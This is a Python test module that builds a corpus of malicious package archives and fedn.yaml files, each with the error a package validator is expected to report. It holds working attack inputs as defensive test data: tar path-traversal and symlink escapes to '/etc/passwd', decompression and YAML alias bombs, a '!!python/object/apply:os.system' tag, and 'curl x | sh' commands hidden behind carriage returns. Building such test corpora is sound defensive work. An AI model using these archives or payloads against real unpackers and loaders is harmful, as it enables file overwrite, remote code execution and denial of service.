"""Packages that nobody should be able to do harm with: each kind of archive and fedn.yaml, and what is said of it."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import Any

SPEC = b"entry_points: {train: {command: python train.py}}\n"
Entry = tuple[tarfile.TarInfo, bytes]


# ---- making archives


def entry(name: str, content: bytes = b"", **fields: Any) -> Entry:
    info = tarfile.TarInfo(name)
    info.size = len(content)
    for key, value in fields.items():
        setattr(info, key, value)
    return info, content


def folder(name: str) -> Entry:
    return entry(name, type=tarfile.DIRTYPE, mode=0o755)


def link(name: str, target: str) -> Entry:
    return entry(name, type=tarfile.SYMTYPE, linkname=target)


def hard_link(name: str, target: str) -> Entry:
    return entry(name, type=tarfile.LNKTYPE, linkname=target)


PACKAGE = entry("client/fedn.yaml", SPEC)


def tar_bytes(entries: Iterable[Entry], format: int = tarfile.PAX_FORMAT, **pax_headers: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(
        fileobj=buffer, mode="w", format=format, errors="surrogateescape", pax_headers=pax_headers or None
    ) as tar:
        for info, content in entries:
            tar.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def with_checksum(block: bytes) -> bytes:
    """A header block with the checksum that it should have."""
    total = sum(block[:148]) + sum(block[156:]) + 8 * ord(" ")
    return block[:148] + b"%06o\0 " % total + block[156:]


def header(name: str, *, patch: dict[int, bytes] | None = None, **fields: Any) -> bytes:
    """One header block; ``patch`` puts bytes at offsets, whatever tar would write there."""
    info, _ = entry(name, **fields)
    block = bytearray(info.tobuf(tarfile.GNU_FORMAT if "size" in fields else tarfile.USTAR_FORMAT)[-512:])
    for at, data in (patch or {}).items():
        block[at : at + len(data)] = data
    return with_checksum(bytes(block))


def padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % 512)


def extended(kind: bytes, data: bytes) -> bytes:
    """An extended header: PAX (``x``, ``g``) or GNU (``L``, ``K``)."""
    return header("././@LongLink", type=kind, size=len(data)) + padded(data)


def records(**values: str | bytes) -> bytes:
    """PAX records, each with its own length in front; ``__`` in a key is a dot."""
    data = b""
    for key, value in values.items():
        rest = b" " + key.replace("__", ".").encode() + b"=" + (value.encode() if isinstance(value, str) else value)
        length = len(rest) + 2
        while len(str(length)) + len(rest) + 1 != length:
            length += 1
        data += str(length).encode() + rest + b"\n"
    return data


FIRST = tar_bytes([PACKAGE])[:1024]  # the package's fedn.yaml, and no end
END = bytes(1024)


def raw(*blocks: bytes) -> bytes:
    """A package and, after its fedn.yaml, these bytes."""
    return FIRST + b"".join(blocks) + END


# ---- cases


@dataclass(frozen=True)
class Case:
    """``said``: all of the message after the file's name. ``tight``: it is within the default limits."""

    name: str
    make: Callable[[], bytes]
    said: str
    suffix: str = ".tar.gz"
    tight: bool = False

    @property
    def member(self) -> str | None:
        """The member that the message names, as it names it."""
        return self.said.removeprefix("member ").partition(": ")[0] if self.said.startswith("member ") else None


MAX_BYTES, MAX_MEMBERS = 1 << 20, 1000  # the limits under which all cases are refused


def shown(name: str) -> str:
    return repr(name if len(name) <= 120 else f"{name[:80]}…{name[-30:]}")


def of(said: str, *entries: Entry, format: int = tarfile.PAX_FORMAT) -> tuple[Callable[[], bytes], str]:
    """A package and these members, compressed."""
    return lambda: gzip.compress(tar_bytes([PACKAGE, *entries], format), mtime=0), said


def of_raw(said: str, *blocks: bytes) -> tuple[Callable[[], bytes], str]:
    return lambda: gzip.compress(raw(*blocks), mtime=0), said


def about(name: str, rule: str) -> str:
    return f"member {shown(name)}: {rule}"


def _names() -> Iterator[Case]:
    for what, name, rule in (
        ("absolute", "/etc/x", "its name is absolute"),
        ("two slashes", "//x", "its name is absolute"),
        ("traversal", "../x", "its name contains '..'"),
        ("traversal in the middle", "client/../../x", "its name contains '..'"),
        ("traversal that comes back", "client/sub/../x", "its name contains '..'"),
        ("traversal at the end", "client/..", "its name contains '..'"),
        ("traversal to a neighbour with the same prefix", "../client-evil/x", "its name contains '..'"),
        ("traversal behind a dot", "./../x", "its name contains '..'"),
        ("drive", "C:/x", "its name starts with a drive letter"),
        ("drive without a slash", "c:x", "its name starts with a drive letter"),
        ("backslash", "client\\x", "its name contains a backslash"),
        ("traversal with backslashes", "..\\..\\x", "its name contains a backslash"),
        ("newline", "client/a\nb", "its name contains a control character"),
        ("escape sequence", "client/a\x1b[2Jb", "its name contains a control character"),
        ("C1 control", "client/a\x85b", "its name contains a control character"),
        ("delete", "client/a\x7fb", "its name contains a control character"),
        ("line separator", "client/a\u2028b", "its name contains a control character"),
        ("right to left override", "client/gpj.\u202eyp.x", "its name contains an invisible character"),
        ("isolate", "client/\u2066x", "its name contains an invisible character"),
        ("zero width space", "client/fedn\u200b.yaml", "its name contains an invisible character"),
        ("soft hyphen", "client/fe\u00addn.yaml", "its name contains an invisible character"),
        ("byte order mark", "\ufeffclient/x", "its name contains an invisible character"),
        ("no UTF-8", "client/a\udcffb", "its name is not UTF-8"),
        ("long part", "client/" + "a" * 256, "a part of its name is longer than 255 bytes"),
        ("long part in bytes", "client/" + "ä" * 128, "a part of its name is longer than 255 bytes"),
        ("long name", "/".join(["a" * 200] * 6), "its name is longer than 1024 bytes"),
        ("depth", "a/" * 64 + "b", "its name is nested deeper than 64 folders"),
        ("depth bomb", "a/" * 100_000 + "b", "its name is nested deeper than 64 folders"),
        ("file named dot", ".", "only a folder can have this name"),
    ):
        yield Case(f"name: {what}", *of(about(name, rule), entry(name, b"x"), format=tarfile.GNU_FORMAT))
    surrogate = extended(b"x", records(path=b"client/\xed\xa0\x80"))
    said = about("client/\udced\udca0\udc80", "its name is not UTF-8")
    yield Case("name: encoded surrogate", *of_raw(said, surrogate, header("x")))


def _collisions() -> Iterator[Case]:
    def same(one: str, other: str) -> str:
        return f"{shown(one)} and {shown(other)} are the same name on some systems"

    nfc, nfd = "client/ä", unicodedata.normalize("NFD", "client/ä")
    for what, said, *entries in (
        ("twice", about("client/a", "the archive contains it twice"), entry("client/a"), entry("client/a")),
        (
            "twice in two spellings",
            about("client/a", "the archive contains it twice"),
            entry("client/a"),
            entry("./client//a"),
        ),
        (
            "second fedn.yaml",
            about("client/fedn.yaml", "the archive contains it twice"),
            entry("client/fedn.yaml", b"x"),
        ),
        ("folder twice", about("client/d", "the archive contains it twice"), folder("client/d"), folder("client/d")),
        (
            "file, then link",
            about("client/a", "the archive contains it twice"),
            entry("client/a"),
            link("client/a", "b"),
        ),
        (
            "link, then file",
            about("client/a", "the archive contains it twice"),
            link("client/a", "b"),
            entry("client/a"),
        ),
        (
            "file in a file",
            about("client/a/b", "it lies inside 'client/a', which is a file"),
            entry("client/a"),
            entry("client/a/b"),
        ),
        (
            "file where a folder is",
            about("client/a", "it is a file here and a folder elsewhere"),
            entry("client/a/b"),
            entry("client/a"),
        ),
        (
            "link where a folder is",
            about("client/a", "it is a link here and a folder elsewhere"),
            entry("client/a/b"),
            link("client/a", "b"),
        ),
        (
            "case",
            about("client/README", same("client/README", "client/readme")),
            entry("client/readme"),
            entry("client/README"),
        ),
        (
            "case of the spec",
            about("client/FEDN.yaml", same("client/FEDN.yaml", "client/fedn.yaml")),
            entry("client/FEDN.yaml"),
        ),
        ("case of a folder", about("Client/b", same("Client", "client")), entry("Client/b")),
        ("composed and not", about(nfd, same(nfd, nfc)), entry(nfc), entry(nfd)),
        (
            "sharp s",
            about("client/STRASSE", same("client/STRASSE", "client/straße")),
            entry("client/straße"),
            entry("client/STRASSE"),
        ),
    ):
        yield Case(f"collision: {what}", *of(said, *entries))


def _links() -> Iterator[Case]:
    for what, name, target, rule in (
        ("absolute", "client/l", "/etc/passwd", "its target '/etc/passwd' is absolute"),
        ("traversal", "client/l", "../../x", "its target '../../x' is outside the package"),
        ("traversal from the root", "l", "../x", "its target '../x' is outside the package"),
        ("to a neighbour folder", "client/l", "../other/x", "its target '../other/x' is outside the package"),
        (
            "to a neighbour with the same prefix",
            "client/l",
            "../client-evil/x",
            "its target '../client-evil/x' is outside the package",
        ),
        ("to the archive's root", "client/l", "..", "its target '..' is outside the package"),
        ("down and up", "client/l", "sub/../../x", "its target 'sub/../../x' has '..' after a name"),
        ("backslash", "client/l", "a\\b", "its target 'a\\\\b' contains a backslash"),
        ("drive", "client/l", "C:/x", "its target 'C:/x' starts with a drive letter"),
        ("empty", "client/l", "", "its target is empty"),
        ("newline", "client/l", "a\nb", "its target 'a\\nb' contains a control character"),
        ("right to left override", "client/l", "a\u202eb", "its target 'a\\u202eb' contains an invisible character"),
        (
            "deep",
            "client/l",
            "a/" * 64 + "b",
            f"its target {shown('client/' + 'a/' * 64 + 'b')} is nested deeper than 64 folders",
        ),
    ):
        yield Case(f"link: {what}", *of(about(name, rule), entry("other/x"), link(name, target)))
    for target in ("sub", "../..", "/tmp"):
        said = about("client/l/x", "it would be written through the link 'client/l'")
        members = (folder("client/sub"), link("client/l", target), entry("client/l/x", b"1"))
        yield Case(f"link: written through, to {target}", *of(said, *members))
    said = about("client/out", "its target 'x/y/up/../secret' has '..' after a name")
    chain = (folder("client/x/y"), link("client/x/y/up", "../.."), link("client/out", "x/y/up/../secret"))
    yield Case("link: chain", *of(said, *chain))
    said = about("client/fedn.yaml", "fedn.yaml must be an ordinary file")
    yield Case("link: as the spec", lambda: gzip.compress(tar_bytes([link("client/fedn.yaml", "x")])), said)


def _hard_links() -> Iterator[Case]:
    for what, target, rule in (
        ("absolute", "/etc/passwd", "its target '/etc/passwd' is absolute"),
        ("traversal", "../x", "its target '../x' contains '..'"),
        ("to a later file", "client/later", "it is a hard link to 'client/later', which is not a file before it"),
        ("to a link", "client/l", "it is a hard link to 'client/l', which is not a file before it"),
        ("to itself", "client/h", "it is a hard link to 'client/h', which is not a file before it"),
        ("to a folder", "client", "it is a hard link to 'client', which is not a file before it"),
    ):
        members = (link("client/l", "fedn.yaml"), hard_link("client/h", target), entry("client/later"))
        yield Case(f"hard link: {what}", *of(about("client/h", rule), *members))
    yield Case(
        "hard link: over the spec",
        *of(
            about("client/fedn.yaml", "the archive contains it twice"),
            entry("client/x"),
            hard_link("client/fedn.yaml", "client/x"),
        ),
    )


def _special() -> Iterator[Case]:
    for what, kind, rule in (
        ("character device", tarfile.CHRTYPE, "it is a device"),
        ("block device", tarfile.BLKTYPE, "it is a device"),
        ("fifo", tarfile.FIFOTYPE, "it is a fifo"),
        ("volume label", b"V", "it is of the unknown type b'V'"),
        ("part of another volume", b"M", "it is of the unknown type b'M'"),
        ("list of a folder", b"D", "it is of the unknown type b'D'"),
        ("socket of star", b"9", "it is of the unknown type b'9'"),
    ):
        yield Case(f"special: {what}", *of(about("client/x", rule), entry("client/x", type=kind)))
    yield Case(
        "special: old GNU sparse", *of_raw(about("client/x", "it is a sparse file"), header("client/x", type=b"S"))
    )
    for what, keys in (
        ("PAX sparse 0.0", {"GNU__sparse__size": "9" * 12, "GNU__sparse__numblocks": "0"}),
        ("PAX sparse 1.0", {"GNU__sparse__major": "1", "GNU__sparse__minor": "0", "GNU__sparse__name": "/etc/x"}),
        ("sparse of star", {"SCHILY__realsize": "9" * 12}),
        ("sparse of Solaris", {"SUN__holesdata": " 0 512"}),
    ):
        said = about("client/x", "it is a sparse file")
        yield Case(f"special: {what}", *of_raw(said, extended(b"x", records(**keys)), header("client/x")))


def _headers() -> Iterator[Case]:
    after = "member 'client/fedn.yaml': the archive is damaged: "
    hidden = header("client/hidden")
    for what, said, *blocks in (
        ("PAX path that leaves", about("../x", "its name contains '..'"), extended(b"x", records(path="../x")), header("client/x")),
        (
            "PAX target that leaves",
            about("client/l", "its target '../../x' is outside the package"),
            extended(b"x", records(linkpath="../../x")),
            header("client/l", type=b"2", linkname="fedn.yaml"),
        ),
        ("PAX path with NUL", about("client/a\0b", "its name contains a control character"), extended(b"x", records(path="client/a\0b")), header("x")),
        ("GNU name with NUL", about("client/a\0/../x", "its name contains a control character"), extended(b"L", b"client/a\0/../x\0"), header("x")),
        ("GNU name that leaves", about("../../x", "its name contains '..'"), extended(b"L", b"../../x\0"), header("client/x")),
        ("GNU target that leaves", about("client/l", "its target '/etc/x' is absolute"), extended(b"K", b"/etc/x\0"), header("client/l", type=b"2")),
        ("prefix that leaves", about("../../x", "its name contains '..'"), header("x", patch={345: b"../.."})),
        ("GNU mark and a prefix", after + "a header has GNU tar's mark and a prefix to its name", header("client/x", patch={257: b"ustar  \0", 345: b"evil"})),
        ("two names", after + "two extended headers for one member", extended(b"L", b"client/a\0"), extended(b"x", records(path="client/b")), header("x")),
        ("PAX size that hides a member", about("client/x", "its header states 512 bytes, but its extended header 0"), extended(b"x", records(size="0")), header("client/x", size=512), hidden),
        ("PAX size that eats a member", about("client/x", "its header states 0 bytes, but its extended header 512"), extended(b"x", records(size="512")), header("client/x"), hidden),
        ("PAX size below zero", about("client/x", "its size '-1' is not a number"), extended(b"x", records(size="-1")), header("client/x")),
        ("PAX size in other digits", about("client/x", "its size '٣' is not a number"), extended(b"x", records(size="٣")), header("client/x")),
        ("PAX size with exponent", about("client/x", "its size '1e3' is not a number"), extended(b"x", records(size="1e3")), header("client/x")),
        ("PAX size of 30 digits", about("client/x", f"its size '{'9' * 30}' is not a number"), extended(b"x", records(size="9" * 30)), header("client/x")),
        ("size below zero in base 256", after + "a header states a negative size", header("client/x", size=-512)),
        ("size below zero in octal", after + "a header states a negative size", header("client/x", patch={124: b"-0000000777\0"})),
        ("size with an underscore", after + "a header states a size that is not an octal number", header("client/x", patch={124: b"0000000_100\0"})),
        ("size with a prefix", after + "a header states a size that is not an octal number", header("client/x", patch={124: b"0o000000100\0"})),
        ("size that is no number", after + "a tar header is missing (invalid header)", header("client/x", patch={124: b"0000000zzz\0"})),
        ("size of a folder", about("client/d", "it is not a file, but has a size"), header("client/d", type=b"5", size=512), hidden),
        ("size of a link", about("client/l", "it is not a file, but has a size"), header("client/l", type=b"2", linkname="fedn.yaml", size=512), hidden),
        ("size of a hard link", about("client/l", "it is not a file, but has a size"), header("client/l", type=b"1", linkname="client/fedn.yaml", size=512), hidden),
        ("size below the real one", "member 'client/x': the archive is damaged: a tar header is missing (invalid header)", header("client/x", size=1), b"x" * 2048),
        ("file that is called a folder", about("client/x/", "it is a file, but its name ends with '/'"), extended(b"x", records(path="client/x/")), header("x")),
        ("global path", after + "a global header renames or resizes members", extended(b"g", records(path="client/x")), header("x")),
        ("global size", after + "a global header renames or resizes members", extended(b"g", records(size="0")), header("client/x", size=512), hidden),
        ("global sparse", after + "a global header renames or resizes members", extended(b"g", records(GNU__sparse__major="1")), header("client/x")),
        ("records without length", "the archive is damaged: an extended header is malformed", extended(b"x", b"path=abc\n"), header("x")),
        ("record beyond its header", "the archive is damaged: an extended header is malformed", extended(b"x", b"99 path=abc\n"), header("x")),
        ("record of no length", "the archive is damaged: an extended header is malformed", extended(b"x", b"0 a=b\n"), header("x")),
        ("record of less than no length", "the archive is damaged: an extended header is malformed", extended(b"x", b"-6 a=b\n"), header("x")),
        ("extended header at the end", after + "it ends after an extended header", extended(b"x", records(path="client/x"))),
        ("endless global headers", after + "more than 16 extended headers in a row", extended(b"g", records(comment="x")) * 300),
        ("endless extended headers", after + "two extended headers for one member", extended(b"x", records(comment="x")) * 300),
        ("wrong checksum", after + "a tar header is missing (bad checksum)", header("client/x")[:-1] + b"x"),
    ):  # fmt: skip
        yield Case(f"header: {what}", *of_raw(said, *blocks))
    for kind, what in ((b"x", "PAX"), (b"g", "global"), (b"L", "GNU name"), (b"K", "GNU target")):
        said = "it has an extended header of 4294967296 bytes (at most 262144 are allowed)"
        yield Case(f"header: {what} of 4 GiB", *of_raw(said, header("x", type=kind, size=1 << 32)))


def _bombs() -> Iterator[Case]:
    too_big = f"the package unpacks to more than {MAX_BYTES} bytes"
    too_many = f"the package has more than {MAX_MEMBERS} files and folders"
    one, other = (header("client/x", size=size) for size in (1 << 40, (1 << 62) - 1))
    yield Case("bomb: stated size", *of_raw(about("client/x", too_big), one))
    yield Case("bomb: stated size near 2^62", *of_raw(about("client/x", too_big), other))
    giant = extended(b"x", records(size="9" * 19))
    yield Case("bomb: PAX size of 9 exabytes", *of_raw(about("client/x", too_big), giant, header("client/x")))
    yield Case("bomb: size", *of(about("client/x", too_big), entry("client/x", bytes(MAX_BYTES + 1))), tight=True)
    parts = [entry(f"client/{number}", bytes(MAX_BYTES // 4)) for number in range(5)]
    yield Case("bomb: size of many", *of(about("client/3", too_big), *parts), tight=True)
    again = [hard_link(f"client/{number}", "client/x") for number in range(20)]
    said = about("client/9", too_big)
    yield Case("bomb: hard links", *of(said, entry("client/x", bytes(100_000)), *again), tight=True)
    files = [entry(f"client/{number}") for number in range(MAX_MEMBERS)]
    yield Case("bomb: count", *of(about(f"client/{MAX_MEMBERS - 2}", too_many), *files), tight=True)
    deep = [entry(f"client/{number}/" + "a/" * 50 + "b") for number in range(20)]
    said = about("client/19/" + "a/" * 50 + "b", too_many)
    yield Case("bomb: folders that names imply", *of(said, *deep), tight=True)
    zeros = gzip.compress(bytes(16 << 20), mtime=0)
    yield Case("bomb: ratio of gzip", lambda: gzip.compress(FIRST, mtime=0) + zeros * 2, too_big, tight=True)
    big_zeros = bz2.compress(bytes(16 << 20))
    yield Case("bomb: ratio of bzip2", lambda: bz2.compress(FIRST) + big_zeros * 2, too_big, tight=True)
    yield Case("bomb: ratio of xz", lambda: lzma.compress(FIRST + bytes(32 << 20)), too_big, tight=True)
    long = [extended(b"x", records(comment="x" * 250_000)) + header(f"client/{number}") for number in range(40)]
    yield Case("bomb: long headers", *of_raw(too_big, *long), tight=True)
    yield Case(
        "bomb: dictionary of xz", _xz_that_asks_for_memory, "the archive is damaged: Memory usage limit exceeded"
    )


def _xz_that_asks_for_memory() -> bytes:
    data = lzma.compress(raw(), filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}])
    # Compressing with a bigger dictionary would itself take the memory, so the block header is patched (and its CRC).
    block = bytearray(data[12:24])
    assert block[4] == 16  # the code of 1 MiB
    block[4] = 34  # 512 MiB
    block[8:12] = zlib.crc32(bytes(block[:8])).to_bytes(4, "little")
    return data[:12] + bytes(block) + data[24:]


def _damage() -> Iterator[Case]:
    whole = gzip.compress(raw(*tar_bytes([entry("client/x", bytes(range(256)) * 8)]).split(END)[:1]), mtime=0)
    truncated = "the archive is damaged: it is truncated"
    after = "the archive is damaged: data follows its end"
    damaged = about("client/fedn.yaml", truncated)
    wrong = bytearray(gzip.compress(raw(), mtime=0))
    wrong[-6] ^= 1
    yield Case("damage: empty file", lambda: b"", "it is an empty file")
    yield Case("damage: two bytes", lambda: b"\x1f\x8b", truncated)
    yield Case("damage: noise", lambda: bytes(range(256)) * 9, "it is not a tar archive")
    yield Case("damage: gzip cut in its middle", lambda: whole[: len(whole) // 2], truncated)
    yield Case("damage: gzip without its end", lambda: whole[:-5], truncated)
    yield Case("damage: tar cut in a file", lambda: raw()[:600], damaged, ".tar")
    yield Case("damage: tar without its end", lambda: FIRST, damaged, ".tar")
    yield Case(
        "damage: wrong checksum of gzip",
        lambda: bytes(wrong),
        "the archive is damaged: Error -3 while decompressing data: incorrect data check",
    )
    yield Case("damage: script after gzip", lambda: gzip.compress(raw()) + b"#!/bin/sh\n", after)
    yield Case("damage: two archives in two gzips", lambda: gzip.compress(raw()) * 2, after)
    yield Case(
        "damage: archive after the end",
        lambda: gzip.compress(raw(raw())),
        about("client/fedn.yaml", "the archive contains it twice"),
    )
    yield Case("damage: archive after its zeros", lambda: raw() + raw(), after, ".tar")
    yield Case("damage: bytes in the last zeros", lambda: raw() + bytes(511) + b"x", after, ".tar")
    yield Case(
        "damage: one zero block, then more", lambda: FIRST + bytes(512) + header("client/x") + END, after, ".tar"
    )
    yield Case("damage: gzip in gzip", lambda: gzip.compress(gzip.compress(raw())), truncated)  # fmt: skip


def _other_files() -> Iterator[Case]:
    def zipped() -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as file:
            file.writestr("client/fedn.yaml", SPEC)
        return buffer.getvalue()

    yield Case("other: zip", zipped, "it is a zip file")
    yield Case("other: zip called tar", zipped, "it is a zip file", ".tar")
    yield Case("other: 7z called tgz", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(600), "it is not a tar archive", ".tgz")
    yield Case("other: zstd", lambda: b"\x28\xb5\x2f\xfd" + bytes(600), "it is not a tar archive", ".tar.zst")
    yield Case("other: program called tar.gz", lambda: b"\x7fELF\x02\x01\x01" + bytes(600), "it is not a tar archive")
    yield Case("other: pickle", lambda: b"\x80\x04\x95" + bytes(600), "it is not a tar archive", ".tar.gz")
    yield Case("other: script", lambda: b"#!/bin/sh\necho harm\n" * 100, "it is not a tar archive")


def _where_the_spec_is() -> Iterator[Case]:
    none = "it has no fedn.yaml at its root or in a top-level folder"
    for what, said, *entries in (
        ("nothing", none),
        ("too deep", f"{none} ('a/b/fedn.yaml' is too deep)", entry("a/b/fedn.yaml", SPEC)),
        (
            "in two folders",
            "more than one top-level folder has a fedn.yaml: 'a/fedn.yaml', 'b/fedn.yaml'",
            entry("b/fedn.yaml", SPEC),
            entry("a/fedn.yaml", SPEC),
        ),
        ("a folder", about("fedn.yaml", "fedn.yaml must be an ordinary file"), folder("fedn.yaml")),
    ):
        yield Case(f"spec: {what}", lambda entries=entries: gzip.compress(tar_bytes(entries)), said)  # type: ignore[misc]


def _specs() -> Iterator[Case]:
    train = "entry_points:\n  train: "
    laughs = "".join(f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]\n" for n in range(1, 9))
    strange = "anchors, aliases and tags (&, *, !) are not allowed"
    must = "line 3: 'entry_points.train.command' must be text, found"
    for what, said, text in (
        ("bomb of aliases", f"line 1: {strange}", "x0: &x0 [lol]\n" + laughs),
        ("anchor", f"line 2: {strange}", train + "&a {command: x}\n  validate: *a"),
        ("alias", f"line 2: {strange}", train + "*a"),
        ("endless alias", f"line 1: {strange}", "&a [*a]"),
        ("merge key", "line 3: unknown key '<<' in 'entry_points.train'", train + "\n    <<: {command: x}"),
        ("merge key with an anchor", f"line 1: {strange}", "b: &b {command: x}\n" + train + "\n    <<: *b"),
        ("tag of Python", f"line 2: {strange}", train + "{command: !!python/object/apply:os.system [id]}"),
        ("tag", f"line 2: {strange}", train + "{command: !!str 5}"),
        ("tag of one's own", f"line 1: {strange}", "%TAG ! tag:x,2000:\n---\n!x {}".replace("%TAG ! tag:x,2000:\n---\n", "")),
        ("binary", f"line 2: {strange}", train + "{command: !!binary aGk=}"),
        ("number for a command", f"{must} 7", train + "\n    command: 7"),
        ("boolean for a command", f"{must} true", train + "\n    command: true"),
        ("fraction for a command", f"{must} 1.5", train + "\n    command: 1.5"),
        ("nothing for a command", f"{must} null", train + "\n    command:"),
        ("list for a command", f"{must} a list", train + "\n    command: [sh, -c, x]"),
        ("mapping for a command", f"{must} a section with a", train + "\n    command: {a: b}"),
        ("empty command", "line 3: 'entry_points.train.command' is empty", train + "\n    command: ' '"),
        ("NUL in a command", "line 3: 'entry_points.train.command' contains a NUL character", train + '\n    command: "a\\0b"'),
        ("escape sequence in a command", "line 3: 'entry_points.train.command' contains the invisible character '\\x1b'", train + '\n    command: "a\\e[2Jb"'),
        ("carriage return in a command", "line 3: 'entry_points.train.command' contains the invisible character '\\r'", train + '\n    command: "curl x | sh #\\rpython a.py"'),
        ("carriage return in the middle of a line", "line 3: the line ends with the invisible character '\\r'", train + "\n    command: curl x | sh;\r      python a.py"),
        ("next line in a comment", "line 2: the line ends with the invisible character '\\x85'", "entry_points:\r\n  train: {command: a} #\x85\n"),
        ("right to left override in a command", "line 3: 'entry_points.train.command' contains the invisible character '\\u202e'", train + '\n    command: "a\\u202eb"'),
        ("escape sequence in a key", "line 1: unknown key '\\x1b[2J'", '"\\e[2J": x'),
        ("key of 50 KB", f"line 1: unknown key '{'k' * 79}…'", f"{'k' * 1000}: x"),
        ("key twice", "line 3: duplicate key 'train' (first on line 2)", train + "{command: a}\n  train: {command: b}"),
        ("command twice", "line 4: duplicate key 'command' (first on line 3)", train + "\n    command: a\n    command: b"),
        ("entry point above the folder", "line 2: '../post_install' cannot be the name of an entry point", "entry_points:\n  ../post_install: {command: a}"),
        ("environment outside", "line 3: 'python_env' is '../../x.yaml', which is outside the package", train + "{command: a}\npython_env: ../../x.yaml"),
        ("absolute environment", "line 3: 'python_env' is '/etc/x.yaml', which is outside the package", train + "{command: a}\npython_env: /etc/x.yaml"),
        ("two documents", "line 2: not valid YAML: but found another document", "a: 1\n---\nb: 2"),
        ("NUL", "line 1: not valid YAML: special characters are not allowed", train.replace("\n", "\0", 1)),
        ("nesting", "line 1: nested too deeply (more than 8 levels)", "[" * 60_000),
        ("nesting of mappings", "line 1: nested too deeply (more than 8 levels)", "{a: " * 16_000),
        ("complex key", "line 1: a key must be plain text", "? [1]\n: 2"),
        ("only a tab", "line 2: not valid YAML: found character '\\t' that cannot start any token", "entry_points:\n\ttrain: a"),
    ):  # fmt: skip
        yield _spec_case(what, text.encode(), f"client/fedn.yaml, {said}")
    too_big = "client/fedn.yaml: larger than 64 KiB, so this is not a fedn.yaml"
    yield _spec_case("700 KB of keys", b"a: b\n" * 140_000, too_big)
    yield _spec_case("UTF-16", "entry_points: {}".encode("utf-16"), "client/fedn.yaml, line 1: not UTF-8 text")
    yield _spec_case("surrogate", b"a: \xed\xa0\x80", "client/fedn.yaml, line 1: not UTF-8 text")


def _spec_case(what: str, text: bytes, said: str) -> Case:
    return Case(f"yaml: {what}", lambda: gzip.compress(tar_bytes([entry("client/fedn.yaml", text)]), mtime=0), said)


CORPUS: tuple[Case, ...] = tuple(
    case
    for part in (
        _names,
        _collisions,
        _links,
        _hard_links,
        _special,
        _headers,
        _bombs,
        _damage,
        _other_files,
        _where_the_spec_is,
        _specs,
    )
    for case in part()
)
